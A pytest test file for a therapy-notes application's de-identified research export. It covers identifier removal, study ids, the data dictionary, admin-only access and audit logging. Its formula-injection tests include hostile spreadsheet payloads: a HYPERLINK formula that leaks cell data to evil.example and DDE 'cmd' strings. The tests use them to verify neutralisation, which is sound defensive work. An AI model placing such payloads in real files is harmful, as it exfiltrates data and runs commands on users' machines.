"""The de-identified research export: one CSV per template with a data dictionary, no
client code, name, free text or real date; study ids new in every export; formula-safe
cells; administrators only; every export audited with who, what and why."""

from __future__ import annotations

import csv
import io
import re
import stat
import zipfile
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import select

from kaptools import audit, notes
from kaptools.demo import load_demo
from kaptools.exports.research import build_research_export, neutralise
from kaptools.extensions import db
from kaptools.modality import get_registry
from kaptools.modality.schema import Field
from kaptools.models import (
    Addendum,
    AuditEvent,
    Client,
    Course,
    Note,
    NoteState,
    PrivateNote,
    Signature,
    TherapySession,
    User,
)
from kaptools.timeutil import clinic_zone
from tests import factories
from tests.conftest import signed_in

ADMIN = ("admin", "demo-admin-kaptools")
FREE_TEXT = ("text", "longtext")
NUMBER_RE = re.compile(r"^-?\d+(\.\d+)?$")
TIME_RE = re.compile(r"^\d{2}:\d{2}$")


@pytest.fixture
def demo(app):
    with app.app_context():
        load_demo()


def unzip(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name).decode("utf-8") for name in zf.namelist()}


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def data_files(files: dict[str, str]) -> dict[str, str]:
    return {n: t for n, t in files.items() if n.endswith(".csv") and n != "data_dictionary.csv"}


def download(app, data: dict[str, Any] | None = None, who: tuple[str, str] = ADMIN):
    """The export as the administrator downloads it from the research export page."""
    browser = signed_in(app, *who)
    browser.get("/admin/exports/research")
    with app.app_context():
        slugs = sorted({s for s, _ in get_registry().templates})
    form = {"templates": slugs,
            "reason": "Ethics approval REC-24/117: anxiety outcomes after KAP"}
    return browser.post("/admin/exports/research", {**form, **(data or {})})


def export_files(app, **data: Any) -> dict[str, str]:
    answer = download(app, data)
    assert answer.status_code == 200, answer.get_data(as_text=True)[:2000]
    assert answer.mimetype == "application/zip"
    assert re.fullmatch(r'attachment; filename="kaptools-research-[A-Z0-9]{10}\.zip"',
                        answer.headers["Content-Disposition"])
    return unzip(answer.data)


# What the demo holds that must never leave ------------------------------------------------
def written(day: date) -> set[str]:
    """A date in the ways people and programs write it."""
    return {day.isoformat(), f"{day:%Y%m%d}", f"{day:%Y/%m/%d}", f"{day:%d/%m/%Y}",
            f"{day:%m/%d/%Y}", f"{day.day}/{day.month}/{day.year}",
            f"{day.month}/{day.day}/{day.year}", f"{day:%d.%m.%Y}", f"{day:%d-%m-%Y}",
            f"{day.day} {day:%b %Y}", f"{day:%d %b %Y}", f"{day.day} {day:%B %Y}",
            f"{day:%B} {day.day}, {day.year}", f"{day:%b} {day.day}, {day.year}"}


def walk(fields: tuple[Field, ...], values: Any, found: dict[str, list]) -> None:
    """Free-text answers and date answers of one level of a note, and below."""
    if not isinstance(values, dict):
        return
    for f in fields:
        value = values.get(f.key)
        if f.type == "group" and isinstance(value, list):
            for item in value:
                walk(f.fields, item, found)
        elif f.type in FREE_TEXT and isinstance(value, str):
            found["text"].append(value)
        elif f.type == "date" and isinstance(value, str):
            found["dates"].append(date.fromisoformat(value))


def demo_identifiers() -> dict[str, Any]:
    """Everything in the database that identifies a client or a day, or was typed."""
    registry = get_registry()
    found: dict[str, list] = {"text": [], "dates": [], "draft_text": []}
    moments: list[datetime] = []
    for note in db.session.scalars(select(Note).execution_options(include_discarded=True)):
        template = registry.get(note.modality, note.template_version)
        target: dict[str, list] = {"text": [], "dates": found["dates"]}
        walk(template.fields, note.answers, target)
        found["text" if note.state == NoteState.SIGNED else "draft_text"] += target["text"]
        moments += [m for m in (note.created_at, note.updated_at, note.signed_at) if m]
    private = [v for row in db.session.scalars(select(PrivateNote))
               for v in row.answers.values() if isinstance(v, str)]
    days = set(found["dates"])
    for sess in db.session.scalars(select(TherapySession)
                                   .execution_options(include_discarded=True)):
        days.add(sess.session_date)
    courses = list(db.session.scalars(select(Course).execution_options(include_discarded=True)))
    days |= {d for c in courses for d in (c.starts_on, c.ends_on) if d}
    moments += [c.created_at for c in db.session.scalars(select(Client))]
    moments += [s.signed_at for s in db.session.scalars(select(Signature))]
    moments += [e.created_at for e in db.session.scalars(select(AuditEvent))]
    for moment in moments:
        days |= {moment.date(), moment.astimezone(clinic_zone()).date()}
    days.add(date.today())
    clients = list(db.session.scalars(select(Client)))
    users = list(db.session.scalars(select(User)))
    labels = template_words()
    return {
        "codes": [c.code for c in clients],
        "names": [c.display_name for c in clients if c.display_name]
        + [u.display_name.split(",")[0] for u in users],
        "usernames": [u.username for u in users],
        "dates": sorted({text for day in days for text in written(day)}),
        # What therapists typed, unless it is also a word of a template (a mood named
        # like a choice label is no leak when the label appears).
        "free_text": sorted({t for t in found["text"] if t not in labels and len(t) > 3}),
        "draft_text": sorted({t for t in found["draft_text"] if t not in found["text"]
                              and t not in labels and len(t) > 3}),
        "private": private,
        "record_text": [c.title for c in courses] + [c.intentions for c in courses]
        + [s.summary for s in db.session.scalars(select(TherapySession)) if s.summary]
        + [a.body for a in db.session.scalars(select(Addendum))],
    }


def template_words() -> set[str]:
    """Every code and label a template defines (what a structured cell may hold)."""
    words = {"preparation", "dosing", "integration", "assessment"}

    def fields(level: tuple[Field, ...]) -> None:
        for f in level:
            words.update(c.value for c in f.choices)
            words.update(c.label for c in f.choices)
            fields(f.fields)

    for template in get_registry().templates.values():
        fields(template.fields)
        for score in template.scores:
            words.update(b.label for b in score.bands)
            words.update(fl.label for fl in score.flags)
            words.update(lv.label for lv in score.levels)
            words.update(w for w in (score.otherwise, score.met, score.not_met) if w)
    return words


def assert_nothing_identifies(files: dict[str, str], known: dict[str, Any]) -> None:
    for name, text in files.items():
        for code in known["codes"]:
            assert code.lower() not in text.lower(), (name, code)
        for person in known["names"]:
            assert not re.search(rf"\b{re.escape(person)}\b", text, re.I), (name, person)
        for username in known["usernames"]:
            assert not re.search(rf"\b{re.escape(username)}\b", text, re.I), (name, username)
        for written_date in known["dates"]:
            assert written_date not in text, (name, written_date)
        assert not re.search(r"\b(19|20)\d\d-\d\d-\d\d\b", text), name
        for typed in known["private"] + known["record_text"] + known["draft_text"]:
            assert typed not in text, (name, typed)


# The acceptance test ---------------------------------------------------------------------
def test_the_export_holds_no_client_code_name_free_text_or_real_date(app, demo):
    files = export_files(app)
    with app.app_context():
        known = demo_identifiers()
        words = template_words()
    assert known["codes"] and known["free_text"] and len(known["dates"]) > 100
    assert_nothing_identifies(files, known)
    for name, text in data_files(files).items():
        for typed in known["free_text"]:
            assert typed not in text, (name, typed)
        # Every cell is a number, a time, a study id or a word the template defines.
        for row in table(text):
            for column, cell in row.items():
                if column == "study_id":
                    assert re.fullmatch(r"[A-Z2-9]{8}", cell), (name, cell)
                elif column.endswith("_flags") and cell:
                    assert set(cell.split("; ")) <= words, (name, column, cell)
                else:
                    assert cell == "" or NUMBER_RE.match(cell) or TIME_RE.match(cell) \
                        or cell in words, (name, column, cell)


def test_with_free_text_the_text_is_there_and_still_no_code_name_or_date(app, demo):
    files = export_files(app, free_text="y")
    with app.app_context():
        known = demo_identifiers()
    assert_nothing_identifies(files, known)
    exported = "\n".join(data_files(files).values())
    assert all(typed in exported for typed in known["free_text"])
    assert "FREE TEXT IS INCLUDED" in files["README.txt"]
    assert "MAY CONTAIN NAMES" in files["README.txt"]
    dictionary = table(files["data_dictionary.csv"])
    assert {d["variable"] for d in dictionary if d["identifier"] == "y"} >= {"situation",
                                                                           "themes"}


# What the files hold --------------------------------------------------------------------
def test_signed_notes_only_each_client_one_study_id_dates_as_day_numbers(app, demo):
    with app.app_context():
        signed = db.session.scalars(select(Note).where(Note.state == NoteState.SIGNED)).all()
        gad = [n for n in signed if n.modality == "gad-7"]
        notes.mark_entered_in_error(gad[0], gad[0].author, "Wrong client's answers.")
        db.session.commit()
        drafts = db.session.scalars(select(Note).where(Note.state == NoteState.DRAFT)).all()
        assert drafts  # the demo's last integration session is still a draft
    files = export_files(app)
    exported = {name: table(text) for name, text in data_files(files).items()}
    top = {name: rows for name, rows in exported.items() if name.count(".") == 1}
    assert sum(len(rows) for rows in top.values()) == len(signed) - 1
    assert len(exported["gad-7.csv"]) == len(gad) - 1
    assert len(exported["integration-session.csv"]) == 4  # the fifth is a draft
    # The intensive client has notes in every file and one study id across them; the
    # weekly client another; the first session is day 0.
    ids = {row["study_id"] for rows in top.values() for row in rows}
    assert len(ids) == 2
    assert {r["study_id"] for r in exported["kap-dosing.csv"]} < ids
    assert min(int(r["day"]) for rows in top.values() for r in rows) == 0
    dosing = sorted(exported["kap-dosing.csv"], key=lambda r: int(r["day"]))
    assert [int(r["day"]) for r in dosing] == [2, 4, 6, 8]  # the plan: days -21 … -15 of 23
    assert [r["session_kind"] for r in dosing] == ["dosing"] * 4
    # A date answer is a day number too: the adverse event began on the first dosing day.
    [event] = exported["adverse-event.csv"]
    assert event["onset_date"] == event["day"] == "2"


def test_scores_groups_choices_and_references(app, demo):
    files = export_files(app)
    gad = table(files["gad-7.csv"])
    for row in gad:
        assert int(row["score_total"]) == sum(int(row[f"q{i}"]) for i in range(1, 8))
    assert [r["score_total_band"] for r in sorted(gad, key=lambda r: int(r["day"]))] == \
        ["Severe", "Moderate", "Mild"]
    phq = table(files["phq-9.csv"])
    assert all(r["score_total_flags"].startswith("Item 9") == (r["q9"] != "0") for r in phq)
    # Repeating rows: one file per group, counted in the note's file, joined by note_no.
    dosing = table(files["kap-dosing.csv"])
    vitals = table(files["kap-dosing.vitals.csv"])
    for note in dosing:
        rows = [v for v in vitals if v["note_no"] == note["note_no"]]
        assert len(rows) == int(note["vitals_rows"]) == 5
        assert [int(v["row_no"]) for v in rows] == [1, 2, 3, 4, 5]
        assert {v["study_id"] for v in rows} == {note["study_id"]}
    # A reference names the row it points to; a multiple choice is one 0/1 column per option.
    parts = table(files["ifs-parts-map.parts.csv"])
    for link in table(files["ifs-parts-map.relationships.csv"]):
        assert 1 <= int(link["from_part"]) <= len(parts)
    [thought_record] = table(files["cbt-thought-record.csv"])
    assert 1 <= int(thought_record["hot_thought"]) <= int(thought_record["thoughts_rows"])
    thoughts = table(files["cbt-thought-record.thoughts.csv"])
    assert {k for k in thoughts[0] if k.startswith("distortions___")}
    assert all(thoughts[0][k] in ("0", "1") for k in thoughts[0] if "___" in k)
    # Free text is left out, private fields always.
    columns = set(table(files["cbt-thought-record.csv"])[0])
    assert not columns & {"situation", "evidence_for", "process_notes"}


def test_the_dictionary_describes_every_column(app, demo):
    files = export_files(app, free_text="y")
    dictionary = table(files["data_dictionary.csv"])
    assert list(dictionary[0]) == ["variable", "form", "section", "type", "label", "choices",
                                   "validation", "min", "max", "unit", "identifier", "note"]
    described = {(d["form"], d["variable"]) for d in dictionary}
    in_files = {(name.removesuffix(".csv"), column)
                for name, text in data_files(files).items()
                for column in next(csv.reader(io.StringIO(text)))}
    assert described == in_files
    entry = {(d["form"], d["variable"]): d for d in dictionary}
    assert entry["gad-7", "q1"]["type"] == "radio"
    assert entry["gad-7", "q1"]["choices"].startswith("0, 0 Not at all | 1, 1 Several days")
    assert (entry["gad-7", "q1"]["min"], entry["gad-7", "q1"]["max"]) == ("0", "3")
    assert entry["gad-7", "difficulty"]["choices"].startswith("not_difficult_at_all, Not ")
    assert entry["gad-7", "score_total"]["type"] == "calc"
    assert entry["adverse-event", "onset_date"]["validation"] == "integer"
    assert "day 0" in entry["adverse-event", "onset_date"]["note"]
    assert entry["kap-dosing.vitals", "systolic"]["unit"] == "mmHg"
    assert entry["kap-dosing", "time_given"]["validation"] == "time"
    assert entry["cbt-thought-record", "situation"]["type"] == "notes"
    assert entry["cbt-thought-record.thoughts", "distortions___mind_reading"]["type"] == \
        "checkbox"
    assert "README" not in "".join(files) or "README.txt" in files


def test_every_export_gives_new_study_ids(app, demo):
    first, second = export_files(app), export_files(app)
    ids = [{r["study_id"] for r in table(files["phq-9.csv"])} for files in (first, second)]
    assert len(ids[0]) == len(ids[1]) == 2 and not ids[0] & ids[1]
    # Only the ids change: the same rows, in study-id order, each time.
    strip = [sorted(tuple(v for k, v in r.items() if k not in ("study_id", "note_no"))
                    for r in table(files["phq-9.csv"])) for files in (first, second)]
    assert strip[0] == strip[1]


def test_versions_of_a_template_share_one_file(app):
    """A note written in an older version keeps its answers; fields its version lacks stay
    empty, and a field whose meaning changed would get a column of its own."""
    with app.app_context():
        maya = factories.user("maya")
        ids = factories.client_with_course(maya)
        sess = db.session.get(TherapySession, ids["integration"])
        sess.session_date = date.today() - timedelta(days=1)
        registry = get_registry()
        for version in (1, 2):
            template = registry.get("art-script", version)
            answers = {k: v for k, v in template.sample.items()
                       if (f := template.field(k)) is not None and f.audience != "private"}
            if version == 2:
                answers["replacement_made"] = True
            notes.sign(notes.create_note(sess, maya, template, answers), maya)
        db.session.commit()
        export = build_research_export(["art-script"])
    rows = table(unzip(export.data)["art-script.csv"])
    by_version = {r["template_version"]: r for r in rows}
    assert set(by_version) == {"1", "2"}
    assert by_version["1"]["sud_baseline"] and by_version["2"]["sud_baseline"]
    assert by_version["1"]["replacement_made"] == ""  # only version 2 asks
    assert by_version["2"]["replacement_made"] == "1"


# Formula injection -----------------------------------------------------------------------
def test_cells_a_spreadsheet_would_run_are_neutralised():
    assert neutralise("=HYPERLINK(\"http://x\",\"y\")") == "'=HYPERLINK(\"http://x\",\"y\")"
    for hostile in ("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1"):
        assert neutralise(hostile) == "'" + hostile
    # Numbers stay numbers, negative ones too; ordinary text is untouched.
    assert [neutralise(v) for v in (-3, 0, 2.5, -0.25, 200.0, True, None, "a=b")] == \
        ["-3", "0", "2.5", "-0.25", "200", "1", "", "a=b"]


def test_hostile_answers_reach_the_csv_as_text(app):
    with app.app_context():
        maya = factories.user("maya")
        ids = factories.client_with_course(maya)
        sess = db.session.get(TherapySession, ids["integration"])
        sess.session_date = date.today() - timedelta(days=1)
        template = get_registry().latest("cbt-thought-record")
        answers = dict(template.sample)
        answers.pop("process_notes", None)
        answers["situation"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        answers["evidence_for"] = "+cmd|' /C calc'!A0"
        answers["evidence_against"] = "-2+3"
        answers["next_steps"] = "@SUM(1+1)*cmd|' /C calc'!A0"
        # A date before the first session: a negative day number, which stays a number.
        answers["situation_date"] = (db.session.get(Course, ids["course"]).sessions[0]
                                     .session_date - timedelta(days=3)).isoformat()
        notes.sign(notes.create_note(sess, maya, template, answers), maya)
        db.session.commit()
        export = build_research_export(["cbt-thought-record"], free_text=True)
    files = unzip(export.data)
    [row] = table(files["cbt-thought-record.csv"])
    assert row["situation"] == "'" + answers["situation"]
    assert row["evidence_for"] == "'" + answers["evidence_for"]
    assert row["evidence_against"] == "'-2+3"
    assert row["next_steps"] == "'" + answers["next_steps"]
    assert row["situation_date"] == "-3"
    for name, text in files.items():
        if name.endswith(".csv"):
            for cells in csv.reader(io.StringIO(text)):
                for cell in cells:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                    assert not cell.startswith("-") or NUMBER_RE.match(cell), (name, cell)


# The page: administrators only, a reason, an audit event ---------------------------------
def test_only_administrators_reach_the_page(app, demo):
    for who in (("maya", "demo-maya-lind"), ("ruth", "demo-ruth-okafor")):
        browser = signed_in(app, *who)
        assert browser.get("/admin/exports/research").status_code == 404
        assert download(app, who=who).status_code == 404
        assert 'href="/admin/exports/research"' not in browser.get("/").get_data(as_text=True)
    assert app.test_client().get("/admin/exports/research").status_code in (302, 303)
    admin = signed_in(app, *ADMIN)
    page = admin.get("/admin/exports/research")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert 'href="/admin/exports/research"' in admin.get("/admin/users").get_data(as_text=True)
    assert "GAD-7 anxiety questionnaire" in html
    # Counts only: no client and nothing typed on the page.
    assert "KT-0142" not in html and "Client A" not in html
    with app.app_context():
        assert not db.session.scalars(select(AuditEvent)
                                      .where(AuditEvent.action == "export.research")).all()


def test_a_reason_and_a_template_are_required_and_nothing_typed_is_lost(app, demo):
    answer = download(app, {"templates": ["gad-7", "phq-9"], "free_text": "y", "reason": "  "})
    assert answer.status_code == 422 and answer.mimetype == "text/html"
    html = answer.get_data(as_text=True)
    assert re.search(r'id="reason-error">Say why the data is exported', html)
    assert re.search(r'value="gad-7" checked', html) and re.search(r'value="phq-9" checked',
                                                                    html)
    assert not re.search(r'value="pcl-5" checked', html)
    assert re.search(r'id="free_text"[^>]*checked|checked[^>]*id="free_text"', html)
    answer = download(app, {"templates": [], "reason": "Audit of dosing records"})
    html = answer.get_data(as_text=True)
    assert answer.status_code == 422 and 'id="templates-error">Choose at least one' in html
    assert "Audit of dosing records" in html
    with app.app_context():
        assert not db.session.scalars(select(AuditEvent)
                                      .where(AuditEvent.action == "export.research")).all()


def test_every_export_is_audited_with_who_what_and_why(app, demo):
    answer = download(app, {"templates": ["gad-7", "phq-9"]})
    assert answer.status_code == 200
    export_id = re.search(r"research-([A-Z0-9]+)\.zip", answer.headers["Content-Disposition"])[1]
    with app.app_context():
        [event] = db.session.scalars(select(AuditEvent)
                                     .where(AuditEvent.action == "export.research")).all()
        assert event.username == "admin" and event.user_id is not None
        detail = event.detail
        assert detail["templates"] == ["gad-7", "phq-9"] and detail["free_text"] is False
        assert detail["reason"] == "Ethics approval REC-24/117: anxiety outcomes after KAP"
        assert detail["notes"] == 7 and detail["notes_by_template"] == {"gad-7": 3, "phq-9": 4}
        assert detail["export_id"] == export_id and detail["clients"] == 2
        assert audit.verify_chain().ok
    assert export_id in unzip(answer.data)["README.txt"]
    page = signed_in(app, *ADMIN).get("/admin/exports/research").get_data(as_text=True)
    assert export_id in page and "REC-24/117" in page


# The command line ------------------------------------------------------------------------
def test_the_command_writes_the_zip_and_audits_it(app, demo, tmp_path):
    out = tmp_path / "study.zip"
    runner = app.test_cli_runner()
    result = runner.invoke(args=["export", "research", "--reason", "REC-24/117 outcomes",
                                 "--template", "gad-7", "--template", "phq-9", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert "7 signed notes" in result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    files = unzip(out.read_bytes())
    assert set(files) == {"gad-7.csv", "phq-9.csv", "data_dictionary.csv", "README.txt"}
    with app.app_context():
        known = demo_identifiers()
    assert_nothing_identifies(files, known)
    # All templates with signed notes, with free text, named after an administrator.
    result = runner.invoke(args=["export", "research", "--reason", "Clinic audit",
                                 "--free-text", "--as-user", "admin", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert "kap-dosing.csv" in unzip(out.read_bytes())
    with app.app_context():
        events = db.session.scalars(select(AuditEvent).where(
            AuditEvent.action == "export.research").order_by(AuditEvent.id)).all()
        assert [(e.username, e.detail["reason"], e.detail["free_text"]) for e in events] == \
            [("cli", "REC-24/117 outcomes", False), ("admin", "Clinic audit", True)]
        assert events[1].user_id is not None and events[0].detail["file"] == "study.zip"
    # Refused: an unknown template, a non-administrator, an empty reason.
    for args, message in [(["--template", "nope"], "no such template: nope"),
                          (["--as-user", "maya"], "no active administrator"),
                          (["--reason", " "], "Say why")]:
        result = runner.invoke(args=["export", "research", "--reason", "x", *args,
                                     "-o", str(tmp_path / "refused.zip")])
        assert result.exit_code != 0 and message in result.output, result.output
    assert not (tmp_path / "refused.zip").exists()
